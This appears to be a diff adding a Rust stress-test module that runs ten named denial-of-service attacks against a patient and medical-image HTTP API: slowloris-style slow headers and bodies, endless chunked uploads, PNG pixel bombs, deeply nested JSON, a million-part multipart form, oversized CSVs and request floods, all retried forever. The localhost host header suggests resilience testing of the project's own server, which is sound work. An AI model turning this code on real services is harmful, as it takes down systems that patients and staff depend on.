@@ -1,0 +1,204 @@
+//! The attackers.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::net::tcp::OwnedReadHalf;
+
+use crate::material;
+
+const BOUNDARY: &str = "XyZ";
+
+/// Where and as whom.
+struct Target {
+    address: String,
+    token: String,
+}
+
+impl Target {
+    /// The first lines of a request; further ones, and the empty one, follow.
+    fn head(&self, request: &str) -> String {
+        format!("{request} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n", self.token)
+    }
+
+    fn form_head(&self) -> String {
+        let head = self.head("POST /api/v1/patients/66/uploads");
+        format!("{head}Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n")
+    }
+
+    /// Sends a request of known length and waits for the beginning of the answer.
+    async fn send(&self, head: &str, body: &[u8]) -> std::io::Result<()> {
+        let mut connection = TcpStream::connect(&self.address).await?;
+        connection.write_all(format!("{head}Content-Length: {}\r\n\r\n", body.len()).as_bytes()).await?;
+        connection.write_all(body).await?;
+        let mut answer = [0; 1024];
+        connection.read(&mut answer).await?;
+        Ok(())
+    }
+}
+
+fn part(name: &str, file: &str, content: &[u8]) -> Vec<u8> {
+    let disposition = format!("Content-Disposition: form-data; name=\"{name}\"; filename=\"{file}\"");
+    [format!("--{BOUNDARY}\r\n{disposition}\r\n\r\n").as_bytes(), content, b"\r\n"].concat()
+}
+
+fn form(parts: &[Vec<u8>]) -> Vec<u8> {
+    [parts.concat(), format!("--{BOUNDARY}--\r\n").into_bytes()].concat()
+}
+
+/// Attacks until the process is ended.
+///
+/// # Panics
+/// When there is no such attack.
+pub async fn attack(name: &str, address: &str, token: &str) {
+    let target = Arc::new(Target { address: address.to_owned(), token: token.to_owned() });
+    let many = match name {
+        "slow-heads" | "unread-streams" => 2_000,
+        "slow-bodies" => 1_000,
+        "flood-of-uploads" | "flood-of-reads" => 64,
+        "endless-bodies" | "bombs" | "deep-json" | "many-parts" | "long-csv" => 8,
+        _ => panic!("there is no attack {name:?}"),
+    };
+    let attackers = (0..many).map(|number| {
+        let (target, name) = (target.clone(), name.to_owned());
+        tokio::spawn(async move {
+            // Whoever is thrown out comes again.
+            for round in 0.. {
+                let _ = once(&target, &name, number, round).await;
+                tokio::time::sleep(Duration::from_millis(5)).await;
+            }
+        })
+    });
+    futures::future::join_all(attackers).await;
+}
+
+async fn once(target: &Target, name: &str, number: u64, round: u64) -> std::io::Result<()> {
+    let seed = number << 32 | round;
+    match name {
+        "slow-heads" => {
+            let mut connection = TcpStream::connect(&target.address).await?;
+            loop {
+                connection.write_all(b"G").await?;
+                tokio::time::sleep(Duration::from_secs(1)).await;
+            }
+        }
+        "slow-bodies" => {
+            let mut connection = TcpStream::connect(&target.address).await?;
+            let head = format!("{}Content-Length: 900000000\r\n\r\n", target.form_head());
+            connection.write_all(head.as_bytes()).await?;
+            connection.write_all(&part("ecg", "a.csv", b"0,1")).await?;
+            loop {
+                connection.write_all(&[b'1'; 1_100]).await?;
+                tokio::time::sleep(Duration::from_secs(1)).await;
+            }
+        }
+        "endless-bodies" => endless(target, number).await,
+        "bombs" => {
+            let bomb = if number.is_multiple_of(2) { enormous() } else { one_colour() };
+            let body = form(&[part("medical_image", "a.png", &bomb)]);
+            target.send(&target.form_head(), &body).await
+        }
+        "deep-json" => {
+            let body =
+                [b"{\"medical_record_number\": 66, \"medical_image\": ".to_vec(), vec![b'['; 30_000_000]];
+            target.send(&target.head("POST /api/new_patient"), &body.concat()).await
+        }
+        "many-parts" => {
+            let one = format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nA\r\n");
+            target.send(&target.form_head(), &one.into_bytes().repeat(1_000_000)).await
+        }
+        "long-csv" => {
+            let rows = format!("{}.5,{}\n", seed % 100, seed % 7).into_bytes();
+            let csv = rows.repeat(30_000_000 / rows.len());
+            target.send(&target.form_head(), &form(&[part("ecg", "a.csv", &csv)])).await
+        }
+        "unread-streams" => {
+            let mut connection = TcpStream::connect(&target.address).await?;
+            let head = target.head("GET /api/v1/events");
+            connection.write_all(format!("{head}\r\n").as_bytes()).await?;
+            // One of them sees to it that there is something to send.
+            while number == 0 {
+                let body = form(&[part("medical_image", "a.jpg", &material::jpeg(20, seed))]);
+                target.send(&target.form_head(), &body).await?;
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+            std::future::pending().await
+        }
+        "flood-of-uploads" => {
+            let body = form(&[part("medical_image", "a.jpg", &material::jpeg(160, seed))]);
+            target.send(&target.form_head(), &body).await
+        }
+        "flood-of-reads" => {
+            let mut connection = TcpStream::connect(&target.address).await?;
+            let head = target.head("GET /api/v1/patients/7/images?limit=200");
+            let (read, write) = connection.split();
+            let (mut read, mut write) = (read, write);
+            loop {
+                write.write_all(format!("{head}\r\n").as_bytes()).await?;
+                let mut answer = vec![0; 1 << 16];
+                if read.read(&mut answer).await? == 0 {
+                    return Ok(());
+                }
+            }
+        }
+        _ => std::future::pending().await,
+    }
+}
+
+/// Chunks without an end, through one door or the other.
+async fn endless(target: &Target, number: u64) -> std::io::Result<()> {
+    let connection = TcpStream::connect(&target.address).await?;
+    let (mut read, mut write) = connection.into_split();
+    let (head, begin) = if number.is_multiple_of(2) {
+        (target.form_head(), part("ecg", "a.csv", b"0,1\n"))
+    } else {
+        (target.head("POST /api/new_patient"), b"{\"medical_image\": \"".to_vec())
+    };
+    write.write_all(format!("{head}Transfer-Encoding: chunked\r\n\r\n").as_bytes()).await?;
+    let chunk = [b"10000\r\n".to_vec(), vec![b'1'; 0x1_0000], b"\r\n".to_vec()].concat();
+    write.write_all(format!("{:x}\r\n", begin.len()).as_bytes()).await?;
+    write.write_all(&begin).await?;
+    write.write_all(b"\r\n").await?;
+    let sending = async {
+        loop {
+            if let Err(error) = write.write_all(&chunk).await {
+                return Err(error);
+            }
+        }
+    };
+    tokio::select! {
+        sent = sending => sent,
+        () = answered(&mut read) => Ok(()),
+    }
+}
+
+async fn answered(read: &mut OwnedReadHalf) {
+    let mut answer = [0; 1024];
+    let _ = read.read(&mut answer).await;
+}
+
+/// A picture whose head claims 40,000 x 40,000 pixels.
+fn enormous() -> Vec<u8> {
+    let mut bytes = Vec::new();
+    let mut encoder = png::Encoder::new(&mut bytes, 40_000, 40_000);
+    encoder.set_color(png::ColorType::Grayscale);
+    if let Ok(mut writer) = encoder.write_header() {
+        // Its pixels are cut off: nobody is to get that far.
+        let _ = writer.write_chunk(png::chunk::IDAT, &[0; 2_000]);
+    }
+    bytes
+}
+
+/// 64 megapixels of black: a thousand times smaller than what it stands for.
+fn one_colour() -> Vec<u8> {
+    let mut bytes = Vec::new();
+    let mut encoder = png::Encoder::new(&mut bytes, 8_000, 8_000);
+    encoder.set_color(png::ColorType::Grayscale);
+    encoder.set_depth(png::BitDepth::Eight);
+    if let Ok(mut writer) = encoder.write_header() {
+        let _ = writer.write_image_data(&vec![0; 64_000_000]);
+    }
+    bytes
+}
